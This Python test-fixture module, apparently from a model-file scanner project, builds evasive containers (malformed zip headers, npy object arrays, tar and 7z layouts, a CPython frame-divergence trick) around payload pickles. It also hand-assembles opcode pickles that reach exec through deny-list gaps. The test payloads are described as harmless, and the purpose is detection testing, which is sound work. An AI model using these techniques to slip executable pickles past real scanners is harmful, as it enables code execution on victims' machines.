"""Containers that hide a pickle from scanners, built around a payload pickle (issue 20).

Each builder wraps the pickle it is given; tests pass the harmless payloads of ``hostile.py`` (they would
only create a marker file, and nothing here ever unpickles them) and clean pickles (no false alarms).
The ids follow the research table: Z = zip tricks, P = pickle-level tricks, T = tar, S = 7-Zip. They come
from other scanners' public test suites and advisories (picklescan, modelscan, fickling, ModelAudit, the
CVE-2025-1889/1944/1945/10155/10156 and nullifAI write-ups) and from what was found while checking them.
Offsets patched: central directory flags +8, method +10, CRC +16; local header flags +6, method +8,
CRC +14, name +30.
"""
from __future__ import annotations

import gzip
import io
import pickle
import struct
import tarfile
import warnings
import zipfile

import hostile

S, D = zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED
NPY_OBJECT_HEADER = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"


def sb(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def npy(payload: bytes) -> bytes:
    """An .npy of object dtype whose pickle is ``payload`` (numpy.load(allow_pickle=True) would run it)."""
    head = NPY_OBJECT_HEADER + b" " * (63 - (10 + len(NPY_OBJECT_HEADER)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + payload


def torch_save(obj=None, **kw) -> bytes:
    import torch
    buf = io.BytesIO()
    torch.save({"w": torch.arange(4, dtype=torch.float32)} if obj is None else obj, buf, **kw)
    return buf.getvalue()


def trojan(fragment: bytes) -> bytes:
    """A real torch.save archive whose data.pkl first runs ``fragment`` (a pickle fragment that leaves one
    value), then holds the real weights under "weights"."""
    src = zipfile.ZipFile(io.BytesIO(torch_save()))
    return rezip(src, lambda n, d: [(n, hostile.PROTO2 + b"}(" + hostile.s("payload") + fragment
                                     + hostile.s("weights") + d[2:-1] + b"u." if n.endswith("data.pkl") else d, S)])


def rezip(src: zipfile.ZipFile, fn) -> bytes:
    """Rewrite ``src`` member by member: fn(name, data) -> [(name, data, method)] (duplicates allowed)."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w") as z:
            for name in src.namelist():
                for n, d, c in fn(name, src.read(name)):
                    z.writestr(n, d, compress_type=c)
    return out.getvalue()


def mkzip(members, comp=S) -> bytearray:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w", comp) as z:
            for n, d in members:
                z.writestr(n, d)
    return bytearray(out.getvalue())


def cd_entries(b) -> list[tuple[int, int, bytes]]:
    """(central header offset, local header offset, name) of each directory entry."""
    out, i = [], 0
    while (i := b.find(b"PK\x01\x02", i)) >= 0:
        t = struct.unpack_from("<4sHHHHHHIIIHHHHHII", b, i)
        out.append((i, t[16], bytes(b[i + 46:i + 46 + t[10]])))
        i += 4
    return out


def find(b, suffix: bytes) -> tuple[int, int, bytes]:
    return next(e for e in cd_entries(b) if e[2].endswith(suffix))


def u16(b, off: int, v: int) -> None:
    b[off:off + 2] = struct.pack("<H", v)


def u32(b, off: int, v: int) -> None:
    b[off:off + 4] = struct.pack("<I", v)


def mktar(members, fmt=tarfile.PAX_FORMAT) -> bytearray:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tf:
        for n, d in members:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            tf.addfile(info, io.BytesIO(d))
    return bytearray(out.getvalue())


def v7(b: bytearray) -> bytearray:
    """Blank each header's ustar magic and version and fix its checksum (an old v7 tar)."""
    pos = 0
    while pos + 512 <= len(b) and any(b[pos:pos + 512]):
        size = int(bytes(b[pos + 124:pos + 136]).split(b"\0")[0].strip() or b"0", 8)
        b[pos + 257:pos + 265] = b"\0" * 8
        b[pos + 148:pos + 156] = b" " * 8
        b[pos + 148:pos + 156] = b"%06o\0 " % sum(b[pos:pos + 512])
        pos += 512 + (size + 511) // 512 * 512
    return b


def legacy_tar_members(first: bytes) -> list[tuple[str, bytes]]:
    """torch < 0.1.10's tar layout with ``first`` as the first pickle of ``storages``."""
    return [("storages", first), ("tensors", pickle.dumps(0, protocol=2)), ("pickle", pickle.dumps({}, protocol=2))]


def seven(members) -> bytes:
    import py7zr
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as z:
        for n, d in members:
            z.writestr(d, n)
    return out.getvalue()


def frame_divergence(hidden: bytes) -> bytes:
    """cpython gh-154848: FRAME(2) then BINBYTES(263) that crosses the frame's end; pickle.py stops there,
    the C unpickler reading a file skips to the frame's end and runs ``hidden`` (opcodes leaving one value)."""
    # The frame holds BINBYTES and the first byte of its length; reading on from the frame's end, the C
    # unpickler takes the next four bytes as the length (k, with k + 1 zero bytes after the true length's
    # first byte) and then lands on ``hidden``. Read flat, all of it is one bytes value.
    k = (len(hidden) + 3) // 256 + 1
    pads = 1 + k
    length = max(256 * k, pads + len(hidden) + 1)
    assert length >> 8 == k
    body = (b"\0" * pads + hidden + pickle.MARK).ljust(length, pickle.NONE)
    return (pickle.PROTO + b"\x05" + pickle.NONE + pickle.MARK + pickle.FRAME + struct.pack("<Q", 2)
            + pickle.BINBYTES + struct.pack("<I", length) + body + pickle.POP_MARK + pickle.STOP)


def vectors(payload: bytes, fragment: bytes, *, with_7z: bool = False) -> dict[str, bytes]:
    """id -> file bytes. ``payload``: a whole pickle (protocol 2 or 4); ``fragment``: the same call as a
    pickle fragment that leaves one value on the stack (for hiding inside a real data.pkl)."""
    v: dict[str, bytes] = {}
    tz = lambda: bytearray(trojan(fragment))          # noqa: E731 - a fresh copy each time
    clean = lambda: bytearray(torch_save())           # noqa: E731
    v["Z01"] = tz()
    v["Z02"] = rezip(zipfile.ZipFile(io.BytesIO(torch_save())),
                     lambda n, d: [(n, d, S)] + ([(n.rsplit("/", 1)[0] + "/extra.bin", payload, S)]
                                                 if n.endswith("/version") else []))
    v["Z03"] = mkzip([("data.txt", payload)])
    for fl in (0x1, 0x20, 0x40):
        b = mkzip([("model/config.pkl", payload)])
        c, lo, _ = find(b, b"config.pkl")
        u16(b, c + 8, fl)
        u16(b, lo + 6, fl)
        v[f"Z04_{fl:#x}"] = b
    b = tz()
    c, lo, n = find(b, b"data.pkl")
    u16(b, lo + 6, 1)
    v["Z05"] = b
    b = tz()
    c, lo, n = find(b, b"data.pkl")
    u32(b, c + 16, 0xDEADBEEF)
    u32(b, lo + 14, 0xDEADBEEF)
    v["Z06"] = b
    b = mkzip([("a/x.pkl", payload)])
    c, lo, n = find(b, b"x.pkl")
    u32(b, c + 16, 0xDEADBEEF)
    v["Z07"] = b
    b = tz()
    c, lo, n = find(b, b"data.pkl")
    b[lo + 30 + len(n) - 8:lo + 30 + len(n)] = b"datX.pkl"
    v["Z08"] = b
    b = mkzip([("data.pkl", payload)])
    b[30:38] = b"datap.kl"
    v["Z09"] = b
    b = tz()
    c, lo, n = find(b, b"data.pkl")
    u16(b, lo + 8, 8)
    v["Z10"] = b
    b = mkzip([("x.pkl", payload)])
    c, lo, n = find(b, b"x.pkl")
    u16(b, c + 10, 8)
    v["Z11"] = b
    v["Z12"] = tz() + b"\0" * 100
    v["Z13"] = clean() + payload
    v["Z14"] = bytearray(payload) + clean()
    b = mkzip([("a/data.pkl", payload)])
    c, lo, n = find(b, b"data.pkl")
    v["Z15"] = b[:c]
    b = mkzip([("a/version", b"3\n"), ("h/data.pkl", payload)])
    (c1, _, _), (c2, _, _) = cd_entries(b)
    nb = b[:c2] + b[b.rfind(b"PK\x05\x06"):]
    e = nb.rfind(b"PK\x05\x06")
    struct.pack_into("<HHI", nb, e + 8, 1, 1, c2 - c1)
    v["Z16"] = nb
    v["Z17"] = rezip(zipfile.ZipFile(io.BytesIO(bytes(tz()))),
                     lambda n, d: [(n, pickle.dumps({"w": 0}, protocol=2), S), (n, d, S)]
                     if n.endswith("/data.pkl") else [(n, d, S)])
    v["Z18"] = rezip(zipfile.ZipFile(io.BytesIO(bytes(tz()))), lambda n, d: [(n, d, D if n.endswith("data.pkl") else S)])
    v["Z19"] = tz() + clean()
    v["Z21"] = mkzip([("inner.zip", bytes(mkzip([("m.pkl", payload)])))])
    v["Z22"] = mkzip([("weights", npy(payload))])
    v["Z23"] = mkzip([("a.npy", npy(payload))], D)
    b = mkzip([("a.npy", npy(payload) + b"\0" * (2 << 20))])
    c, lo, n = find(b, b"a.npy")
    u32(b, c + 16, 0xDEADBEEF)
    v["Z24"] = b
    b = mkzip([("a.npy", npy(payload))])
    c, lo, n = find(b, b"a.npy")
    b[lo + 30:lo + 35] = b"b.npy"
    v["Z25"] = b
    v["Z26"] = mkzip([("arr.txt", npy(payload))])
    v["P02"] = payload[:-1] + b"X\xff\xff"                       # nullifAI: the payload, then a broken stream
    v["P02b"] = rezip(zipfile.ZipFile(io.BytesIO(torch_save())),
                      lambda n, d: [(n, payload[:-1] + b"X\xff\xff" if n.endswith("data.pkl") else d, S)])
    v["P03"] = frame_divergence(fragment)
    v["T01"] = mktar(legacy_tar_members(payload))
    v["T02"] = v7(mktar(legacy_tar_members(payload), tarfile.GNU_FORMAT))
    v["T03"] = mktar([("storages", pickle.dumps(0, protocol=2))] + legacy_tar_members(payload))
    v["T04"] = mktar([("model/model.pkl", payload)])
    v["T05"] = gzip.compress(bytes(mktar([("model.pkl", payload)])))
    v["T06"] = mktar([("model.pt", bytes(tz()))])
    if with_7z:
        v["S01"] = seven([("data.pkl", payload)])
        v["S02"] = seven([("pytorch_model.bin", bytes(tz()))])
        src = zipfile.ZipFile(io.BytesIO(bytes(tz())))
        v["S03"] = seven([(n, src.read(n)) for n in src.namelist()])
    return {k: bytes(b) for k, b in v.items()}


def pickle_level(code: str) -> dict[str, bytes]:
    """Pickles that reach code execution through globals a deny list missed (each runs ``code``, a line of
    Python, under pickle.load; never run here)."""
    c = sb(code)
    return {
        "P05": (b"\x80\x04" + sb("numpy") + sb("size") + b"\x93\x94" + sb("numpy") + sb("__builtins__") + b"\x93\x94"
                + b"h\x00N}" + sb("shape") + b"h\x01s\x86b0" + b"h\x00h\x00" + sb("exec") + b"\x86R" + c + b"\x85R."),
        "P06": b"\x80\x04" + sb("torch._utils") + sb("_import_dotted_name") + b"\x93" + sb("builtins.exec") + b"\x85R"
               + c + b"\x85R.",
        "P07": b"\x80\x04" + sb("sympy") + sb("sympify") + b"\x93" + sb(f"__import__('builtins').{code}") + b"\x85R.",
        "P08": b"\x80\x04" + sb("builtins") + sb("__getattribute__") + b"\x93" + sb("exec") + b"\x85R" + c + b"\x85R.",
        "P09": (b"\x80\x04" + sb("typing") + sb("get_type_hints") + b"\x93" + sb("textwrap") + sb("dedent") + b"\x93"
                + b"N}" + sb("__annotations__") + b"}" + sb("x") + sb(f"__import__('builtins').{code}") + b"ss\x86b"
                + b"\x85R."),
        "P10": (b"\x80\x04" + sb("builtins") + sb("next") + b"\x93" + sb("builtins") + sb("iter") + b"\x93"
                + sb("string") + sb("Formatter.get_field") + b"\x93" + b"(" + sb("string") + sb("Formatter") + b"\x93)R"
                + sb("0.exec") + sb("reprlib") + sb("builtins") + b"\x93\x85}tR\x85R\x85R" + c + b"\x85R."),
    }


# What each pickle-level vector must be flagged for.
PICKLE_LEVEL_FLAGS = {"P05": "numpy.__builtins__", "P06": "torch._utils._import_dotted_name", "P07": "sympy.sympify",
                      "P08": "builtins.__getattribute__", "P09": "typing.get_type_hints", "P10": "reprlib.builtins"}
